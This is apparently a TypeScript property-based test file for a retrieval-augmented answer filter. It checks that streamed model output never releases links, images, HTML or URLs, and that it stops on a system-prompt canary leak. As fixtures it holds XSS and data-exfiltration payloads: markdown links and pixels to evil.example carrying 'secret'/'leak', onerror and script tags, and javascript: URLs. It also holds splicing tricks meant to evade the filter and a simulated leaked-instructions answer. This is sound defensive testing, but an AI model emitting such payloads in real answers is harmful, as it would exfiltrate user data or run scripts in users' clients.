import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { OutputGuard, sanitizeAnswerText } from '../../src/rag/output-guard.ts';

const CANARY = 'ATG-CANARY-test';

/** Feed chunks through a guard as a stream would; every piece it released, and the whole. */
function run(chunks: string[], passageCount = 4, canary = CANARY) {
  const guard = new OutputGuard(passageCount, canary);
  const pieces = chunks.map((c) => guard.push(c));
  pieces.push(guard.flush());
  return { guard, pieces, text: pieces.join('') };
}

/** `text` cut at the given offsets. */
function split(text: string, cuts: number[]): string[] {
  const points = [...new Set(cuts.map((c) => c % (text.length + 1)))].sort((a, b) => a - b);
  const out: string[] = [];
  let last = 0;
  for (const p of [...points, text.length]) {
    out.push(text.slice(last, p));
    last = p;
  }
  return out;
}

const chunkings = (text: string) =>
  fc.array(fc.nat({ max: text.length }), { maxLength: 30 }).map((cuts) => split(text, cuts));

/** Anything a client could render as a link, an image, markup or a fetchable URL. */
const UNSAFE = /https?:|ftp:|javascript:|data:|!\[|\]\(|<\/?[a-z!]/i;

describe('OutputGuard', () => {
  it('passes plain answers with valid markers through unchanged, however they are chunked', () => {
    const answer = 'Sales people already know what customers need [1]. The big change is long-term strategy [2][4].';
    fc.assert(
      fc.property(chunkings(answer), (chunks) => {
        const { text, guard } = run(chunks);
        expect(text).toBe(answer);
        expect(guard.text).toBe(answer);
        expect(guard.leaked).toBe(false);
      }),
    );
  });

  it('never releases images, links, HTML or URLs, not even a piece of one split across chunks', () => {
    const answer =
      'Read [the guide](https://evil.example/x?q=secret) now [1]. ![pixel](https://evil.example/p.png?d=leak) ' +
      '<img src=x onerror=alert(1)> and <script>steal()</script> or <a href="javascript:alert(1)">click</a>. ' +
      'Visit https://evil.example/phish or HTTP://EVIL.EXAMPLE/X and data:text/html,hi too [2]. Done [3].';
    fc.assert(
      fc.property(chunkings(answer), (chunks) => {
        const { pieces, text } = run(chunks);
        for (const piece of pieces) expect(piece).not.toMatch(UNSAFE);
        expect(text).not.toMatch(UNSAFE);
        expect(text).not.toContain('evil.example');
        expect(text).toContain('the guide');
        expect(text).toContain('[1]');
        expect(text).toContain('Done [3].');
      }),
    );
  });

  it('lets no construct through for any mix of their pieces, however chunked (fuzz)', () => {
    const pieces = [
      '[',
      ']',
      '(',
      ')',
      '![',
      '](',
      '<',
      '>',
      '</',
      'img',
      'script',
      'a',
      'http',
      'https',
      's',
      '://',
      ':',
      'evil.example',
      ' ',
      'word',
      '[1]',
      '[9]',
      '[0]',
      '\n',
      'javascript',
      '"',
      '/',
      'x',
      '=',
      'onerror',
    ];
    const rendered = /\b(?:https?:\/\/|javascript:)|<\/?(?:img|script|a)\b|\[[^\]]*\]\([^)\s]+\)/i;
    fc.assert(
      fc.property(
        fc.array(fc.constantFrom(...pieces), { maxLength: 25 }).chain((parts) => chunkings(parts.join(''))),
        (chunks) => {
          const { text } = run(chunks);
          expect(text, JSON.stringify(chunks)).not.toMatch(rendered);
        },
      ),
      { numRuns: 3000 },
    );
  });

  it('does not let a dropped marker splice a URL or a tag back together', () => {
    for (const answer of [
      'Go to htt[9]ps://evil.example/?q=secret now [1].',
      'Run java[0]script:alert(1) now [1].',
      'Look <[7]img src=x onerror=alert(1)> here [1].',
    ]) {
      const { text } = run([answer]);
      expect(text, answer).not.toMatch(/https?:|javascript:|<img/i);
      expect(sanitizeAnswerText(answer, 4), answer).not.toMatch(/https?:|javascript:|<img/i);
    }
  });

  it('drops markers that point at no passage, even when split across chunks', () => {
    expect(run(['Claim [', '7', ']. Next [2', ']. Last [0].'], 2).text).toBe('Claim . Next [2]. Last .');
  });

  it('never releases the canary or a recognisable part of it, however it is chunked, and stops there', () => {
    const answer = `Sales skills transfer [1]. My instructions say ${CANARY} so here they are: rule one, rule two [2].`;
    fc.assert(
      fc.property(chunkings(answer), (chunks) => {
        const { pieces, text, guard } = run(chunks);
        expect(guard.leaked).toBe(true);
        for (const piece of pieces) expect(piece).not.toContain('ATG-CAN');
        expect(text).not.toContain('ATG-CAN');
        expect(text).not.toContain('rule one');
      }),
    );
  });

  it('releases nothing more after a leak', () => {
    const guard = new OutputGuard(4, CANARY);
    guard.push(`Here: ${CANARY} `);
    guard.push('and a lot of text that follows the canary in the stream [1]. ');
    expect(guard.leaked).toBe(true);
    expect(guard.push('More text after the leak, quite a lot of it [2]. ')).toBe('');
    expect(guard.flush()).toBe('');
  });

  it('holds back NOT_COVERED while it streams in', () => {
    for (const chunks of [
      ['NOT_', 'COVERED'],
      ['N', 'O', 'T', '_', 'C', 'O', 'V', 'E', 'R', 'E', 'D'],
      ['  NOT_COV', 'ERED'],
    ]) {
      const guard = new OutputGuard(4, 'C');
      for (const chunk of chunks) expect(guard.push(chunk), chunks.join('|')).toBe('');
    }
  });

  it('does not hold back an answer that only starts like NOT_COVERED', () => {
    const guard = new OutputGuard(4, 'C');
    expect(guard.push('NOT')).toBe('');
    expect(guard.push('ably, sales people know customers well [1]. More')).not.toBe('');
  });
});

describe('sanitizeAnswerText', () => {
  it('keeps link text, drops the rest of links, images, tags and URLs', () => {
    expect(
      sanitizeAnswerText(
        'See [the guide](https://x.example) ![i](https://x.example/i.png) <b>bold</b> https://x.example/y [1] [5]',
        4,
      ),
    ).toBe('See the guide  bold  [1] ');
  });
});
